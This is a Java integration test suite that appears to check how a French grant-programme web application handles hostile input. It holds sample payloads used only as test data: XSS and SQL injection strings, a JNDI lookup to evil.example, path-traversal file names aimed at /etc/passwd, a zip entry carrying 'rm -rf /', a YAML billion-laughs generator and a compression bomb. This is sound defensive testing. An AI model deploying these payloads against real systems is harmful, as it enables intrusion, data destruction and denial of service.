			assertThat(reply.statusCode()).as(shown).isNotEqualTo(200).isLessThan(500);
			String page = reply.body();
			if (reply.statusCode() == 302) {
				String target = reply.headers().firstValue("location").orElseThrow();
				assertThat(target).as(shown).doesNotContain("connexion");
				page = browser(hostile.user()).get(target).body();
				assertThat(page).as(shown).contains("fr-alert fr-alert--error");
			}
			else {
				assertThat(reply.statusCode()).as(shown).isBetween(400, 499);
			}
			if (!page.isEmpty()) {
				assertThat(page).as(shown).contains("<html lang=\"fr\"").doesNotContain("Exception", "at org.", "at java.");
				assertThat(page).as(shown)
					.containsAnyOf("caractère", "Unicode", "au plus", "obligatoire", "introuvable", "invalide", "inconnu",
							"refusé", "Aucun", "impossible", "illisible", "id=\"code-erreur\"");
			}
			assertThat(fingerprint()).as(hostile.name + ": data changed").isEqualTo(baseline);
		}
		finally {
			baseline = fingerprint();
		}
	}

	/** A YAML document of 3 MB, typed or sent as a file on the new version page: refused at once, in French. */
	@ParameterizedTest(name = "{0}")
	@org.junit.jupiter.params.provider.ValueSource(strings = { "source", "file" })
	void refusesAThreeMegabyteYamlOnThePage(String how) throws Exception {
		byte[] yaml = utf8("programme: ecoquartier\nversion: 2\ntitle: " + "t".repeat(3 * MB) + "\n");
		long start = System.nanoTime();
		HttpResponse<String> reply = browser(ADMIN).multipart("/administration/referentiels/ecoquartier/versions",
				"file".equals(how) ? part("file", "referentiel.yaml", "application/yaml", yaml)
						: part("source", null, null, yaml));
		long millis = (System.nanoTime() - start) / 1_000_000;
		assertThat(reply.statusCode()).as(reply.body()).isEqualTo(413);
		assertThat(reply.body()).contains("<html lang=\"fr\"", "512 Ko").doesNotContain("Exception");
		assertThat(millis).as("refused in %d ms", millis).isLessThan(10_000);
		assertThat(fingerprint()).isEqualTo(baseline);
	}

	/** A JPEG named img.html, through the page: stored, and said to be stored, as img.html.jpg. */
	@org.junit.jupiter.api.Test
	void storesAJpegNamedHtmlUnderItsTypesExtensionFromThePage() throws Exception {
		try {
			HttpResponse<String> reply = browser(ALBI).multipart("/candidatures/" + fixture.candidacy + "/documents",
					part("type", null, null, "photo"), part("file", "img.html", "text/html", jpeg()));
			assertThat(reply.statusCode()).isEqualTo(302);
			assertThat(browser(ALBI).get(reply.headers().firstValue("location").orElseThrow()).body())
				.contains(fr.jalon.system.French.typeset("Document déposé : img.html.jpg."));
			acceptedDocuments++;
		}
		finally {
			baseline = fingerprint();
		}
	}

	private final Map<String, Browser> browsers = new java.util.concurrent.ConcurrentHashMap<>();

	Browser browser(String user) {
		return browsers.computeIfAbsent(user, name -> {
			try {
				return new Browser(port, name);
			}
			catch (IOException | InterruptedException e) {
				throw new IllegalStateException(e);
			}
		});
	}

	/** A browser signed in through the login form: its session cookie, and the CSRF token its pages carry. */
	static final class Browser {

		private static final java.util.regex.Pattern CSRF = java.util.regex.Pattern
			.compile("name=\"_csrf\" value=\"([^\"]+)\"");

		private final HttpClient http = HttpClient.newBuilder()
			.cookieHandler(new java.net.CookieManager())
			.followRedirects(HttpClient.Redirect.NEVER)
			.build();

		private final String base;

		private String csrf;

		Browser(int port, String user) throws IOException, InterruptedException {
			this.base = "http://localhost:" + port;
			csrf = token(get("/connexion").body());
			HttpResponse<String> login = form("/connexion", "username", user, "password", "demo");
			assertThat(login.headers().firstValue("location").orElse("")).doesNotContain("erreur");
			csrf = token(get("/").body());
		}

		private static String token(String page) {
			java.util.regex.Matcher matcher = CSRF.matcher(page);
			assertThat(matcher.find()).as("a CSRF token in the page").isTrue();
			return matcher.group(1);
		}

		HttpResponse<String> get(String path) throws IOException, InterruptedException {
			return http.send(HttpRequest.newBuilder(URI.create(path.startsWith("http") ? path : base + path)).header("Accept", "text/html").GET().build(),
					HttpResponse.BodyHandlers.ofString());
		}

		HttpResponse<String> form(String path, String... namesAndValues) throws IOException, InterruptedException {
			StringBuilder body = new StringBuilder("_csrf=").append(encode(csrf));
			for (int i = 0; i < namesAndValues.length; i += 2) {
				body.append('&').append(encode(namesAndValues[i])).append('=').append(encode(namesAndValues[i + 1]));
			}
			return http.send(HttpRequest.newBuilder(URI.create(base + path))
				.header("Accept", "text/html")
				.header("Content-Type", "application/x-www-form-urlencoded")
				.POST(HttpRequest.BodyPublishers.ofString(body.toString()))
				.build(), HttpResponse.BodyHandlers.ofString());
		}

		HttpResponse<String> multipart(String path, Part... parts) throws IOException, InterruptedException {
			List<Part> all = new ArrayList<>(List.of(part("_csrf", null, null, csrf)));
			all.addAll(List.of(parts));
			return http.send(HttpRequest.newBuilder(URI.create(base + path))
				.header("Accept", "text/html")
				.header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
				.POST(HttpRequest.BodyPublishers.ofByteArray(multipartBody(BOUNDARY, all)))
				.build(), HttpResponse.BodyHandlers.ofString());
		}

	}

	// =====================================================================================
	// The accepted cases
	// =====================================================================================

	static Stream<Arguments> accepted() {
		List<Case> cases = new ArrayList<>();
		String[] titles = { "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"'><svg/onload=alert(1)>",
				"'; DROP TABLE candidacy; --", "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}",
				"Écoquartier & Cie <b>gras</b> « guillemets »", "Quartier 🌳 vert", "&lt;déjà échappé&gt; &amp;" };
		for (String title : titles) {
			cases.add(post("markup title kept literally: " + title, CANDIDACIES)
				.json(base("title", title))
				.check((reply, test) -> test.literalCandidacy(reply, title, null)));
		}
		String description = "Ligne 1\nLigne 2\r\n\tavec <i>balises</i> & tabulation";
		cases.add(post("description with newlines, tabs and markup kept literally", CANDIDACIES)
			.json(write(obj("programme", "ecoquartier", "collectivite", "81004", "title", "Description", "description",
					description)))
			.check((reply, test) -> test.literalCandidacy(reply, "Description", description)));
		// The last segment, and the extension of what the bytes are (a PDF here) when the name lacks it.
		String[][] names = { { "../../etc/passwd", "passwd.pdf" }, { "..\\..\\windows\\win.ini", "win.ini.pdf" },
				{ "/etc/shadow", "shadow.pdf" }, { "C:\\Windows\\System32\\cmd.pdf", "cmd.pdf" },
				{ "<script>alert(1)</script>.pdf", null }, { "..", "document.pdf" },
				{ "....//....//charte.pdf", "charte.pdf" }, { "%2e%2e%2fcharte.pdf", null },
				{ "n".repeat(200) + ".pdf", null }, { "CHARTE.PDF", "CHARTE.PDF" }, { "n".repeat(255), "n".repeat(251) + ".pdf" },
				{ "a.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>", null } };
		for (String[] name : names) {
			cases.add(post("file name made safe: " + abbreviate(name[0]), UPLOAD)
				.multipart(part("type", null, null, "photo"), part("file", name[0], "application/pdf", Api.pdf(name[0])))
				.check((reply, test) -> test.safeDocument(reply, name[1])));
		}
		cases.add(post("a JPEG named img.html stored and downloaded as img.html.jpg", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("file", "img.html", "text/html", jpeg()))
			.check((reply, test) -> {
				JsonNode document = test.safeDocument(reply, "img.html.jpg");
				try {
					Reply download = test.call(ALBI, "GET", "/api/candidacies/" + test.fixture.candidacy + "/documents/"
							+ document.get("id").asText());
					assertThat(download.header("content-type")).startsWith("image/jpeg");
					assertThat(download.header("content-disposition")).contains("img.html.jpg");
				}
				catch (IOException e) {
					throw new AssertionError(e);
				}
			}));
		cases.add(post("a compressed PDF bomb stored as sent, never expanded", UPLOAD)
			.multipart(f -> List.of(part("type", null, null, "photo"),
					part("file", "bombe.pdf", "application/pdf", pdfWithStream(deflate(200 * MB)))))
			.check((reply, test) -> {
				JsonNode document = test.safeDocument(reply, "bombe.pdf");
				assertThat(document.get("size").asLong()).isLessThan(2 * MB);
			}));
		return cases.stream().map(Arguments::of);
	}

	JsonNode literalCandidacy(Reply reply, String title, String description) {
		try {
			assertThat(reply.status).isEqualTo(201);
			assertThat(reply.header("content-type")).startsWith("application/json");
			JsonNode created = JSON.readTree(reply.body);
			assertThat(created.get("title").asText()).isEqualTo(title);
			assertThat(reply.text()).doesNotContain("&lt;script", "&amp;lt;", "\\u003c");
			JsonNode stored = JSON.readTree(call(ALBI, "GET", "/api/candidacies/" + created.get("id").asText()).body);
			assertThat(stored.get("title").asText()).isEqualTo(title);
			if (description != null) {
				assertThat(stored.get("description").asText()).isEqualTo(description);
			}
			acceptedCandidacies++;
			return stored;
		}
		catch (IOException e) {
			throw new AssertionError(e);
		}
	}

	JsonNode safeDocument(Reply reply, String expectedName) {
		try {
			assertThat(reply.status).as(reply.toString()).isEqualTo(201);
			JsonNode document = JSON.readTree(reply.body);
			String filename = document.get("filename").asText();
			assertThat(filename).isNotBlank().hasSizeLessThanOrEqualTo(255).doesNotContain("/", "\\", "<", ">", "\u0000");
			assertThat(filename).isNotIn("..", ".");
			assertThat(filename.chars().noneMatch(Character::isISOControl)).isTrue();
			if (expectedName != null) {
				assertThat(filename).isEqualTo(expectedName);
			}
			Reply download = call(ALBI, "GET", "/api/candidacies/" + fixture.candidacy + "/documents/"
					+ document.get("id").asText());
			assertThat(download.status).isEqualTo(200);
			assertThat(download.header("content-disposition")).startsWith("attachment").doesNotContain("\r", "\n");
			assertThat(download.header("x-content-type-options")).isEqualTo("nosniff");
			assertThat(DocumentDigest.sha256(download.body)).isEqualTo(document.get("sha256").asText());
			acceptedDocuments++;
			return document;
		}
		catch (IOException e) {
			throw new AssertionError(e);
		}
	}

	// =====================================================================================
	// Building requests
	// =====================================================================================

	/** One hostile request: what is sent, by whom, and what may come back. */
	static final class Case {

		final String name;

		String method = "POST";

		final String path;

		String user = ALBI;

		Function<Fixture, String> contentType = f -> null;

		Function<Fixture, byte[]> body = f -> null;

		Function<Fixture, byte[]> raw;

		final List<String[]> headers = new ArrayList<>();

		Set<Integer> statuses = Set.of();

		String errorField;

		boolean bodyless;

		BiConsumer<Reply, HostileInputTests> check;

		Case(String name, String path) {
			this.name = name;
			this.path = path;
		}

		Case method(String method) {
			this.method = method;
			return this;
		}

		Case as(String user) {
			this.user = user;
			return this;
		}

		Case json(String json) {
			return body("application/json", utf8(escapeLoneSurrogates(json)));
		}

		Case json(Function<Fixture, String> json) {
			this.contentType = f -> "application/json";
			this.body = f -> utf8(escapeLoneSurrogates(json.apply(f)));
			return this;
		}

		Case body(String type, String text) {
			return body(type, utf8(text));
		}

		Case body(String type, byte[] bytes) {
			this.contentType = f -> type;
			this.body = f -> bytes;
			return this;
		}

		Case body(Function<Fixture, String> type, Function<Fixture, byte[]> bytes) {
			this.contentType = type;
			this.body = bytes;
			return this;
		}

		Case multipart(Part... parts) {
			List<Part> list = List.of(parts);
			return multipart(f -> list);
		}

		Case multipart(Function<Fixture, List<Part>> parts) {
			this.contentType = f -> "multipart/form-data; boundary=" + BOUNDARY;
			this.body = f -> multipartBody(BOUNDARY, parts.apply(f));
			return this;
		}

		Case header(String name, String value) {
			headers.add(new String[] { name, value });
			return this;
		}

		Case headers(int count) {
			for (int i = 0; i < count; i++) {
				header("X-Header-" + i, "v");
			}
			return this;
		}

		Case raw(Function<Fixture, byte[]> request) {
			this.raw = request;
			return this;
		}

		Case expect(Integer... statuses) {
			this.statuses = Set.of(statuses);
			return this;
		}

		Case field(String field) {
			this.errorField = field;
			return this;
		}

		/** The server may answer without a body here (a connector-level refusal). */
		Case bodyless() {
			this.bodyless = true;
			return this;
		}

		Case check(BiConsumer<Reply, HostileInputTests> check) {
			this.check = check;
			return this;
		}

		@Override
		public String toString() {
			return name;
		}

	}

	record Part(String name, String filename, String contentType, byte[] content) {
	}

	static final String BOUNDARY = "JalonHostileBoundary7MA4YWxkTrZu0gW";

	static Case post(String name, String path) {
		return new Case(name, path);
	}

	static Part part(String name, String filename, String contentType, String content) {
		return new Part(name, filename, contentType, utf8(content));
	}

	static Part part(String name, String filename, String contentType, byte[] content) {
		return new Part(name, filename, contentType, content);
	}

	static byte[] multipartBody(String boundary, List<Part> parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (Part part : parts) {
			StringBuilder head = new StringBuilder("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + part.name
					+ "\"");
			if (part.filename != null) {
				head.append("; filename=\"").append(part.filename.replace("\"", "\\\"")).append('"');
			}
			head.append("\r\n");
			if (part.contentType != null) {
				head.append("Content-Type: ").append(part.contentType).append("\r\n");
			}
			head.append("\r\n");
			out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
			out.writeBytes(part.content);
			out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
		}
		out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
		return out.toByteArray();
	}

	/** A candidacy of Albi's, with one field replaced (or removed, when the value is null). */
	static String base(String field, Object value) {
		Map<String, Object> body = obj("programme", "ecoquartier", "collectivite", "81004", "title", "Titre");
		body.put(field, value);
		return write(body);
	}

	static String campaign(String field, Object value) {
		Map<String, Object> body = obj("programme", "pvd", "region", "93", "title", "Campagne",
				"closesAt", OffsetDateTime.now(ZoneOffset.UTC).plusDays(30).toString());
		body.put(field, value);
		return write(body);
	}

	/** A complete contract dossier, with one assessment field or one indicator target spoiled. */
	static String contract(Fixture f, String assessmentField, String assessmentValue, Object target) {
		Map<String, Object> assessment = new LinkedHashMap<>();
		for (int i = 0; i < f.criteria.size(); i++) {
			Map<String, Object> entry = obj("level", "SATISFACTORY", "comment", "Réponse.");
			if (i == 0 && assessmentField != null) {
				entry.put(assessmentField, assessmentValue);
			}
			assessment.put(f.criteria.get(i), entry);
		}
		Map<String, Object> indicators = new LinkedHashMap<>();
		for (int i = 0; i < f.indicators.size(); i++) {
			indicators.put(f.indicators.get(i), obj("target", i == 0 && target != null ? target : 10.0));
		}
		return write(obj("outcome", "SUBMIT", "assessment", assessment, "indicators", indicators));
	}

	/** The published referential as a new version 2, with one top-level field replaced. */
	static String referential(Fixture f, String field, String value) {
		ObjectNode node = (ObjectNode) read(f.referential);
		node.remove("status");
		node.put("version", 2);
		node.put(field, value);
		return node.toString();
	}

	static Map<String, Object> obj(Object... keysAndValues) {
		Map<String, Object> map = new LinkedHashMap<>();
		for (int i = 0; i < keysAndValues.length; i += 2) {
			map.put((String) keysAndValues[i], keysAndValues[i + 1]);
		}
		return map;
	}

	static Map<String, Object> nullValued(String key) {
		Map<String, Object> map = new LinkedHashMap<>();
		map.put(key, null);
		return map;
	}

	static String write(Object value) {
		try {
			return JSON.writeValueAsString(value);
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	static JsonNode read(String json) {
		try {
			return JSON.readTree(json);
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	static String arrays(int depth) {
		return "[".repeat(depth) + "]".repeat(depth);
	}

	static String objects(int depth) {
		return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
	}

	static String yamlBlocks(int depth) {
		StringBuilder yaml = new StringBuilder();
		for (int i = 0; i < depth; i++) {
			yaml.append(" ".repeat(i)).append("k:\n");
		}
		return yaml.append(" ".repeat(depth)).append("v\n").toString();
	}

	/** The classic entity expansion, with YAML anchors: each level refers to the one before, {@code width} times. */
	static String billionLaughs(int levels, int width) {
		StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
		for (int level = 1; level < levels; level++) {
			String previous = "*a" + (level - 1);
			yaml.append('a')
				.append(level)
				.append(": &a")
				.append(level)
				.append(" [")
				.append(String.join(",", java.util.Collections.nCopies(width, previous)))
				.append("]\n");
		}
		return yaml.toString();
	}

	/** Halves of surrogate pairs as JSON escapes: UTF-8 cannot carry them, JSON can. */
	static String escapeLoneSurrogates(String json) {
		StringBuilder escaped = new StringBuilder(json.length());
		for (int i = 0; i < json.length(); i++) {
			char c = json.charAt(i);
			boolean paired = Character.isHighSurrogate(c) && i + 1 < json.length()
					&& Character.isLowSurrogate(json.charAt(i + 1));
			if (paired) {
				escaped.append(c).append(json.charAt(++i));
			}
			else if (Character.isSurrogate(c)) {
				escaped.append(String.format("\\u%04x", (int) c));
			}
			else {
				escaped.append(c);
			}
		}
		return escaped.toString();
	}

	static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	static byte[] bytes(int... values) {
		byte[] bytes = new byte[values.length];
		for (int i = 0; i < values.length; i++) {
			bytes[i] = (byte) values[i];
		}
		return bytes;
	}

	static byte[] concat(byte[]... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (byte[] part : parts) {
			out.writeBytes(part);
		}
		return out.toByteArray();
	}

	static byte[] random(int size) {
		byte[] bytes = new byte[size];
		new Random(size).nextBytes(bytes);
		return bytes;
	}

	static byte[] zip() {
		try {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			try (ZipOutputStream zip = new ZipOutputStream(out)) {
				zip.putNextEntry(new ZipEntry("../../evil.sh"));
				zip.write(utf8("rm -rf /"));
				zip.closeEntry();
			}
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new IllegalStateException(e);
		}
	}

	/** The start of a JPEG (JFIF) image: what the bytes are, whatever the name says. */
	static byte[] jpeg() {
		return concat(bytes(0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10), utf8("JFIF"), bytes(0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
				0x00, 0x01, 0x00, 0x00, 0xFF, 0xDB, 0x00, 0x43, 0x00), new byte[64], bytes(0xFF, 0xD9));
	}

	static byte[] png() {
		return bytes(0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52);
	}

	static byte[] pdfOfSize(int size) {
		byte[] header = Api.pdf("grand");
		byte[] bytes = new byte[size];
		System.arraycopy(header, 0, bytes, 0, Math.min(header.length, size));
		return bytes;
	}

	/** A PDF whose one object is a FlateDecode stream holding these bytes. */
	static byte[] pdfWithStream(byte[] stream) {
		return concat(utf8("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
				+ "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj<</Length "
				+ stream.length + "/Filter/FlateDecode>>stream\n"), stream,
				utf8("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
	}

	/** {@code size} zero bytes, deflated: a few hundred kilobytes that would expand to {@code size}. */
	static byte[] deflate(int size) {
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
		byte[] zeros = new byte[MB];
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		byte[] buffer = new byte[64 * 1024];
		for (int written = 0; written < size; written += zeros.length) {
			deflater.setInput(zeros);
			while (!deflater.needsInput()) {
				out.write(buffer, 0, deflater.deflate(buffer));
			}
		}
		deflater.finish();
		while (!deflater.finished()) {
			out.write(buffer, 0, deflater.deflate(buffer));
		}
		deflater.end();
		return out.toByteArray();
	}

	static String base64(String text) {
		return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	static String basic(String user) {
		return "Basic " + base64(user + ":demo");
	}

	static String abbreviate(String text) {
		String shown = text.chars()
			.mapToObj(c -> c < 0x20 || c == 0x7f ? String.format("\\u%04x", c) : String.valueOf((char) c))
			.collect(Collectors.joining());
		return shown.length() > 40 ? shown.substring(0, 40) + "…" : shown;
	}

	/** A chunked YAML upload of an administrator's, in chunks of 8 KB. */
	static byte[] chunkedAsAdmin(Fixture f, byte[] body) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(("POST " + VERSIONS + " HTTP/1.1\r\nHost: localhost:" + f.port + "\r\nAuthorization: " + basic(ADMIN)
				+ "\r\nContent-Type: application/yaml\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
			.getBytes(StandardCharsets.ISO_8859_1));
		for (int at = 0; at < body.length; at += 8192) {
			int length = Math.min(8192, body.length - at);
			out.writeBytes((Integer.toHexString(length) + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
			out.write(body, at, length);
			out.writeBytes("\r\n".getBytes(StandardCharsets.ISO_8859_1));
		}
		out.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
		return out.toByteArray();
	}

	/** A raw request: the request line, Host, Albi's credentials, extra header lines, and a body. */
	static byte[] request(String method, String target, Fixture f, String extraHeaders, String body) {
		return ("" + method + " " + target + " HTTP/1.1\r\nHost: localhost:" + f.port + "\r\nAuthorization: " + basic(ALBI)
				+ "\r\n" + extraHeaders + "Connection: close\r\n\r\n" + body).getBytes(StandardCharsets.ISO_8859_1);
	}

	// =====================================================================================
	// Sending, over a plain socket
	// =====================================================================================

	record Reply(int status, Map<String, String> headers, byte[] body) {

		String header(String name) {
			return headers.getOrDefault(name.toLowerCase(Locale.ROOT), "");
		}

		String text() {
			return new String(body, StandardCharsets.UTF_8);
		}

		@Override
		public String toString() {
			String text = text();
			return status + " " + header("content-type") + " " + (text.length() > 600 ? text.substring(0, 600) + "…" : text);
		}

	}

	Reply send(Case c) throws IOException {
		Fixture f = fixture;
		if (c.raw != null) {
			return exchange(c.raw.apply(f));
		}
		String path = f.resolve(c.path);
		byte[] body = c.body.apply(f);
		String type = c.contentType.apply(f);
		StringBuilder head = new StringBuilder(c.method + " " + path + " HTTP/1.1\r\nHost: localhost:" + port + "\r\n");
		if (c.user != null) {
			head.append("Authorization: ").append(basic(c.user)).append("\r\n");
		}
		if (type != null) {
			head.append("Content-Type: ").append(type).append("\r\n");
		}
		for (String[] header : c.headers) {
			head.append(header[0]).append(": ").append(header[1]).append("\r\n");
		}
		if (body != null) {
			head.append("Content-Length: ").append(body.length).append("\r\n");
		}
		else if (!c.method.equals("GET")) {
			head.append("Content-Length: 0\r\n");
		}
		head.append("Connection: close\r\n\r\n");
		return exchange(concat(head.toString().getBytes(StandardCharsets.UTF_8), body == null ? new byte[0] : body));
	}

	Reply call(String user, String method, String path) throws IOException {
		return send(post(method + " " + path, path).as(user).method(method));
	}

	private Reply exchange(byte[] request) throws IOException {
		try (Socket socket = new Socket("localhost", port)) {
			socket.setSoTimeout((int) Duration.ofSeconds(60).toMillis());
			OutputStream out = socket.getOutputStream();
			try {
				out.write(request);
				out.flush();
			}
			catch (IOException e) {
				// The server may answer, and close, before reading all of a request it refuses.
			}
			return parse(socket.getInputStream());
		}
	}

	private static Reply parse(InputStream in) throws IOException {
		byte[] all = in.readAllBytes();
		int end = indexOf(all, "\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1), 0);
		if (end < 0) {
			throw new IOException("no HTTP response: " + new String(all, StandardCharsets.ISO_8859_1));
		}
		String[] lines = new String(all, 0, end, StandardCharsets.ISO_8859_1).split("\r\n");
		int status = Integer.parseInt(lines[0].split(" ")[1]);
		Map<String, String> headers = new LinkedHashMap<>();
		for (int i = 1; i < lines.length; i++) {
			int colon = lines[i].indexOf(':');
			headers.put(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT), lines[i].substring(colon + 1).trim());
		}
		byte[] body = Arrays.copyOfRange(all, end + 4, all.length);
		if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
			body = dechunk(body);
		}
		return new Reply(status, headers, body);
	}

	private static byte[] dechunk(byte[] chunked) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		int at = 0;
		while (at < chunked.length) {
			int lineEnd = indexOf(chunked, new byte[] { '\r', '\n' }, at);
			String size = new String(chunked, at, lineEnd - at, StandardCharsets.ISO_8859_1).split(";")[0].trim();
			int length = Integer.parseInt(size, 16);
			if (length == 0) {
				break;
			}
			out.write(chunked, lineEnd + 2, length);
			at = lineEnd + 2 + length + 2;
		}
		return out.toByteArray();
	}

	private static int indexOf(byte[] data, byte[] pattern, int from) {
		outer: for (int i = from; i <= data.length - pattern.length; i++) {
			for (int j = 0; j < pattern.length; j++) {
				if (data[i + j] != pattern[j]) {
					continue outer;
				}
			}
			return i;
		}
		return -1;
	}

	// =====================================================================================
	// The fixture, and what "unchanged" means
	// =====================================================================================

	/** What the cases act on. */
	final class Fixture {

		final int port = HostileInputTests.this.port;

		String candidacy;

		String charterTask;

		String contractCandidacy;

		String contractTask;

		String withdrawable;

		String campaign;

		String referential;

		List<String> criteria;

		List<String> indicators;

		String resolve(String path) {
			return path.replace("{candidacy}", String.valueOf(candidacy))
				.replace("{charterTask}", String.valueOf(charterTask))
				.replace("{contractTask}", String.valueOf(contractTask))
				.replace("{withdrawable}", String.valueOf(withdrawable))
				.replace("{campaign}", String.valueOf(campaign));
		}

	}

	/** Every row of Jalon's tables and the engine's runtime, counted, and each candidacy's version. */
	private String fingerprint() {
		return jdbc.queryForObject("select concat_ws(' ', "
				+ "'candidacies', (select count(*) from candidacy), "
				+ "'versions', (select coalesce(sum(version), 0) from candidacy), "
				+ "'updated', (select max(updated_at) from candidacy), "
				+ "'events', (select count(*) from candidacy_event), "
				+ "'partners', (select count(*) from candidacy_partner), "
				+ "'assessments', (select count(*) from assessment), "
				+ "'indicators', (select count(*) from indicator_entry), "
				+ "'documents', (select count(*) from document), "
				+ "'contents', (select count(*) from document_content), "
				+ "'referentials', (select count(*) from referential_version), "
				+ "'referentialStates', (select string_agg(status, ',' order by id) from referential_version), "
				+ "'pilots', (select count(*) from referential_pilot), "
				+ "'campaigns', (select count(*) from campaign), "
				+ "'campaignVersions', (select coalesce(sum(version), 0) from campaign), "
				+ "'tasks', (select count(*) from act_ru_task), "
				+ "'assigned', (select count(assignee_) from act_ru_task), "
				+ "'executions', (select count(*) from act_ru_execution), "
				+ "'variables', (select count(*) from act_ru_variable))", String.class);
	}

	record Counts(int candidacies, int documents, int versions, int campaigns) {
	}

	/**
	 * What an administrator sees through the API: the totals of its lists ({@code X-Total-Count}, whatever their
	 * first page holds); the documents, which a list's items leave out, counted in the database.
	 */
	private Counts counts() throws IOException {
		int documents = jdbc.queryForObject("select count(*) from document", Integer.class);
		return new Counts(total("/api/candidacies"), documents,
				total("/api/referentials/ecoquartier/versions") + total("/api/referentials/pvd/versions"),
				total("/api/campaigns?programme=pvd"));
	}

	private int total(String list) throws IOException {
		Reply reply = call(ADMIN, "GET", list);
		assertThat(reply.status()).as(list).isEqualTo(200);
		return Integer.parseInt(reply.header("X-Total-Count"));
	}

	private String created(String title) throws IOException {
		Reply reply = send(post("setup", CANDIDACIES).json(base("title", title)));
		assertThat(reply.status).as(reply.toString()).isEqualTo(201);
		return JSON.readTree(reply.body).get("id").asText();
	}

	private void uploadPdf(String candidacy) throws IOException {
		Reply reply = send(post("setup", "/api/candidacies/" + candidacy + "/documents")
			.multipart(part("type", null, null, "signed-charter"), part("file", "charte.pdf", "application/pdf", Api.pdf("charte"))));
		assertThat(reply.status).as(reply.toString()).isEqualTo(201);
	}

	private String task(String user, String candidacy, String key) throws IOException {
		JsonNode tasks = JSON.readTree(call(user, "GET", "/api/tasks?candidacy=" + candidacy).body);
		for (JsonNode task : tasks) {
			if (task.get("key").asText().equals(key)) {
				return task.get("id").asText();
			}
		}
		throw new AssertionError("no open task " + key + " for " + user + ": " + tasks);
	}

	private void completeOk(String user, String task, String body) throws IOException {
		Reply reply = send(post("setup", "/api/tasks/" + task + "/complete").as(user).json(body));
		assertThat(reply.status).as(reply.toString()).isEqualTo(200);
	}

	/** SHA-256, as the API shows it. */
	static final class DocumentDigest {

		static String sha256(byte[] bytes) {
			try {
				return java.util.HexFormat.of()
					.formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(bytes));
			}
			catch (java.security.NoSuchAlgorithmException e) {
				throw new IllegalStateException(e);
			}
		}

	}

}
